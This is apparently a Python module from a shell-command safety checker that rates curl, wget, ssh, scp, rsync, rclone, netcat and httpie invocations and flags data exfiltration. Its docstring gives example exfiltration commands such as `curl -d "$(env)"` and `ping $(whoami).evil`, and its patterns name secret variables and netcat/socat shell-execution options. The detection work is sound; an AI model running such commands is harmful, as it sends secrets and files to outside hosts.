"""Programs that talk to other machines, and when they send local data away (exfiltration).

Sending local data to the network is rated unknown, which no `--yes` flag approves: a file
given to upload options (`curl -d @f`, `-T`, `-F x=@f`, `wget --post-file`), a copy to a remote
host (`scp f host:`, `rsync . host:`), standard input fed to a network program, and arguments
holding a command's output or a secret variable (`curl -d "$(env)"`, `ping $(whoami).evil`).
Options that make these programs run local commands (`ssh -o ProxyCommand`, `nc -e`) are
unknown too. Pure: no I/O, nothing from the environment.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from typing import TYPE_CHECKING

from llmos_shell.calls import Risk
from llmos_shell.safety.shell.results import EXFILTRATION
from llmos_shell.safety.shell.targets import write_target
from llmos_shell.safety.shell.words import Word, is_option, positionals, word_set

if TYPE_CHECKING:
    from llmos_shell.safety.shell.judge import CommandJudge

_SECRET_VARIABLE_RE = re.compile(
    r"\$\{?([A-Za-z_]*(?:TOKEN|SECRET|PASSW|PASSWD|PASSWORD|API_?KEY|ACCESS_KEY|PRIVATE|"
    r"CREDENTIAL|SESSION|COOKIE|AUTH)[A-Za-z0-9_]*)",
    re.IGNORECASE,
)
_REMOTE_RE = re.compile(r"^(?:[\w.+-]+@)?[\w.-]+:(?!//)|^(?:rsync|scp|sftp)://")
_STDIN_SENDERS = word_set("nc ncat netcat socat telnet ssh sftp")
_SSH_VALUES = "BbcDEeFIiJLlmOoPpQRSWw"
_LOCAL_COMMAND_OPTIONS = re.compile(
    r"^(ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand|Match)", re.IGNORECASE
)

_CURL_VALUES = word_set("""
    -d --data --data-binary --data-raw --data-ascii --data-urlencode --json -F --form
    --form-string -T --upload-file -o --output -K --config -H --header -u --user -X --request
    -A --user-agent -e --referer -b --cookie -c --cookie-jar -x --proxy -m --max-time
    --connect-timeout -w --write-out -r --range -C --continue-at --retry --output-dir -E --cert
    --key --cacert --limit-rate -Y -y -z --time-cond --resolve --connect-to -D --dump-header
    --trace --trace-ascii --stderr --url -U --proxy-user --interface --local-port
    --proxy-header --url-query --variable
""")
# options whose value, given as @FILE, is read from a local file into the request
_CURL_READS_FILE = word_set("-H --header --proxy-header --url-query --variable --json")
_CURL_SENDS = word_set("-d --data --data-binary --data-ascii --data-urlencode --json")


def _option_values(args: Sequence[Word], takes_value: frozenset[str]) -> list[tuple[str, Word]]:
    """Each (option, value) pair in curl-style arguments (`-d x`, `-dx`, `-sSLo f`, `--data=x`).

    Options without a value come with an empty one.
    """
    out: list[tuple[str, Word]] = []
    i = 0
    while i < len(args):
        arg = args[i]
        text = arg.text
        if is_option(arg) and text.startswith("--"):
            name, has_value, value = text.partition("=")
            if has_value:
                out.append((name, Word(value, arg.dynamic)))
            elif name in takes_value and i + 1 < len(args):
                out.append((name, args[i + 1]))
                i += 1
            else:
                out.append((name, Word("")))
        elif is_option(arg):
            letters = text[1:]
            for j, letter in enumerate(letters):
                option = f"-{letter}"
                if option not in takes_value:
                    out.append((option, Word("")))
                    continue
                rest = letters[j + 1 :]
                if rest:
                    out.append((option, Word(rest, arg.dynamic)))
                elif i + 1 < len(args):
                    out.append((option, args[i + 1]))
                    i += 1
                break
        i += 1
    return out


def _rule_curl(c: CommandJudge) -> None:
    c.find(Risk.NETWORK, "curl downloads from or sends data to the network")
    for option, value in _option_values(c.args, _CURL_VALUES):
        text = value.text
        if (option in _CURL_SENDS and text.startswith("@")) or (
            option == "--data-urlencode" and re.match(r"^[^=]*@", text)
        ):
            what = "its input" if text == "@-" else f"the file {text[1:]}"
            c.find(Risk.UNKNOWN, f"{EXFILTRATION}: curl {option} sends {what}")
        elif option in _CURL_READS_FILE and "@" in text and text != "@-":
            name = text.split("@", 1)[1]
            c.find(
                Risk.UNKNOWN, f"{EXFILTRATION}: curl {option} puts the file {name} in the request"
            )
        elif option in ("-b", "--cookie") and "=" not in text and text not in ("", "-"):
            c.find(Risk.UNKNOWN, f"{EXFILTRATION}: curl {option} sends the cookies in {text}")
        elif option in ("-F", "--form") and re.search(r"=[@<]", text):
            c.find(Risk.UNKNOWN, f"{EXFILTRATION}: curl {option} uploads {text}")
        elif option in ("-T", "--upload-file"):
            c.find(Risk.UNKNOWN, f"{EXFILTRATION}: curl {option} uploads {text}")
        elif option in ("-K", "--config"):
            c.find(Risk.UNKNOWN, "curl -K reads more options from a file, which is not checked")
        elif option in ("-o", "--output", "-c", "--cookie-jar", "-D", "--dump-header") and (
            text not in ("-", "/dev/null")
        ):
            c.find(*write_target(value, "curl saves to"))
        elif option in ("-O", "--remote-name", "--remote-name-all", "-J"):
            c.find(Risk.WRITE, "curl saves a file named after the URL")


def _rule_wget(c: CommandJudge) -> None:
    c.find(Risk.NETWORK, "wget downloads files from the network")
    values = word_set(
        "-O --output-document -o --output-file -a --append-output -P "
        "--directory-prefix -e --execute --post-file --body-file --use-askpass "
        "-i --input-file --post-data --body-data --header -U --user-agent"
    )
    saves = True
    for option, value in _option_values(c.args, values):
        if option in ("--post-file", "--body-file"):
            c.find(Risk.UNKNOWN, f"{EXFILTRATION}: wget {option} sends the file {value.text}")
        elif option in ("-e", "--execute", "--use-askpass"):
            c.find(Risk.UNKNOWN, f"wget {option} runs a setting or program that is not checked")
        elif option in ("-O", "--output-document"):
            saves = False
            if value.text not in ("-", "/dev/null"):
                c.find(*write_target(value, "wget saves to"))
        elif option in ("-o", "--output-file", "-a", "--append-output"):
            c.find(*write_target(value, "wget logs to"))
        elif option == "--spider":
            saves = False
    if saves:
        c.find(Risk.WRITE, "wget saves what it downloads into the working folder")


def _ssh_options_run_commands(c: CommandJudge, args: Sequence[Word]) -> None:
    for i, arg in enumerate(args):
        text = arg.text
        value = args[i + 1].text if i + 1 < len(args) else ""
        if text.startswith("-o") and _LOCAL_COMMAND_OPTIONS.match(text[2:].strip() or value):
            c.find(Risk.UNKNOWN, f"{c.prog} -o {text[2:] or value} runs a local command")
        elif text in ("-F", "-S") or (text.startswith("-F") and len(text) > 2):
            c.find(Risk.UNKNOWN, f"{c.prog} {text[:2]} reads settings or a program not checked")


def _rule_ssh(c: CommandJudge) -> None:
    c.find(Risk.NETWORK, "ssh connects to another machine")
    _ssh_options_run_commands(c, c.args)
    words = positionals(c.args, _SSH_VALUES)
    if len(words) > 1:  # the command it runs there is judged as if it ran here
        if any(w.dynamic for w in words[1:]):
            c.find(Risk.UNKNOWN, "ssh runs a command built at run time on another machine")
        c.nested(" ".join(w.text for w in words[1:]), f"ssh {words[0].text}")


def _rule_copy_remote(c: CommandJudge) -> None:
    """scp, rsync, sftp: copies between this machine and another."""
    prog, args = c.prog, c.args
    value_options = {"scp": "cFiJlPoS", "rsync": "efBTM", "sftp": "bBcDFiJlPRoSs"}.get(prog, "")
    files = positionals(
        args,
        value_options,
        (
            "--rsh",
            "--exclude",
            "--include",
            "--filter",
            "--rsync-path",
            "--files-from",
            "--exclude-from",
        ),
    )
    if prog in ("scp", "sftp"):
        _ssh_options_run_commands(c, args)
    if prog == "sftp":
        if any(a.text.startswith("-b") for a in args):
            c.find(Risk.UNKNOWN, "sftp -b runs transfer commands from a file, not checked")
        c.find(Risk.NETWORK, "sftp copies files over the network")
        return
    if prog == "rsync":
        _rsync_options(c, args)
    if len(files) < 2:
        c.find(Risk.NETWORK, f"{prog} copies files over the network")
        return
    *sources, dest = files
    remote_dest = bool(_REMOTE_RE.match(dest.text))
    local_sources = [s for s in sources if not _REMOTE_RE.match(s.text)]
    if remote_dest and local_sources:
        names = ", ".join(s.text for s in local_sources[:3])
        c.find(Risk.UNKNOWN, f"{EXFILTRATION}: {prog} sends {names} to another machine")
    elif any(_REMOTE_RE.match(s.text) for s in sources):
        c.find(Risk.NETWORK, f"{prog} copies files from another machine")
        c.find(*write_target(dest, f"{prog} writes to"))
    else:
        c.find(Risk.WRITE, f"{prog} copies files")
        risk, reason = write_target(dest, f"{prog} writes to")
        if risk.rank > Risk.WRITE.rank:
            c.find(risk, reason)


def _rsync_options(c: CommandJudge, args: Sequence[Word]) -> None:
    longs = {a.text.split("=", 1)[0] for a in args if a.text.startswith("--")}
    if any(o.startswith(("--delete", "--del", "--remove-source")) for o in longs):
        c.find(Risk.DESTRUCTIVE, "rsync --delete deletes files at the destination")
    for i, arg in enumerate(args):
        text = arg.text
        shell = None
        if text in ("-e", "--rsh") and i + 1 < len(args):
            shell = args[i + 1].text
        elif text.startswith("--rsh="):
            shell = text.split("=", 1)[1]
        elif text.startswith("-e") and len(text) > 2:
            shell = text[2:]
        if shell is not None and (shell.split()[:1] != ["ssh"] or " -o" in shell):
            c.find(Risk.UNKNOWN, f"rsync -e runs {shell}, which is not checked")


def _rule_rclone(c: CommandJudge) -> None:
    files = positionals(c.args)
    c.find(Risk.NETWORK, "rclone uses the network")
    if len(files) >= 3 and files[0].text in ("copy", "copyto", "sync", "move", "moveto"):
        if ":" in files[-1].text and ":" not in files[1].text:
            c.find(
                Risk.UNKNOWN, f"{EXFILTRATION}: rclone sends {files[1].text} to {files[-1].text}"
            )


def _rule_netcat(c: CommandJudge) -> None:
    c.find(Risk.NETWORK, f"{c.prog} uses the network")
    for arg in c.args:
        text = arg.text
        if text in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or (
            c.prog == "socat" and re.match(r"^(EXEC|SYSTEM):", text, re.IGNORECASE)
        ):
            c.find(
                Risk.UNKNOWN, f"{c.prog} {text.split(':')[0]} runs a program for another machine"
            )


def _rule_httpie(c: CommandJudge) -> None:
    c.find(Risk.NETWORK, f"{c.prog} uses the network")
    for arg in positionals(c.args):
        if re.match(r"^[^=:@]*(=|:=)?@", arg.text) or arg.text.startswith("@"):
            c.find(Risk.UNKNOWN, f"{EXFILTRATION}: {c.prog} uploads {arg.text}")


NETWORK_RULES: dict[str, Callable[[CommandJudge], None]] = {
    "curl": _rule_curl,
    "wget": _rule_wget,
    "ssh": _rule_ssh,
    **dict.fromkeys(("scp", "rsync", "sftp"), _rule_copy_remote),
    "rclone": _rule_rclone,
    **dict.fromkeys(("nc", "ncat", "netcat", "socat"), _rule_netcat),
    **dict.fromkeys(("http", "https"), _rule_httpie),
}


def sends_local_data(c: CommandJudge) -> list[str]:
    """Why a network program's arguments or input carry local data away, if they do."""
    reasons = []
    for token in c.tokens[1:]:
        if token.substitutes and not token.downloads:
            reasons.append(f"{EXFILTRATION}: {c.prog} sends the output of a command away")
            break
    for arg in c.args:
        secret = _SECRET_VARIABLE_RE.search(arg.text) if arg.dynamic else None
        if secret:
            reasons.append(f"{EXFILTRATION}: {c.prog} sends ${secret.group(1)} away")
            break
    source = c.stdin_source()
    if source is not None and (c.prog in _STDIN_SENDERS or "@-" in c.texts or "-" in c.texts):
        reasons.append(f"{EXFILTRATION}: {c.prog} sends {source} to the network")
    return reasons
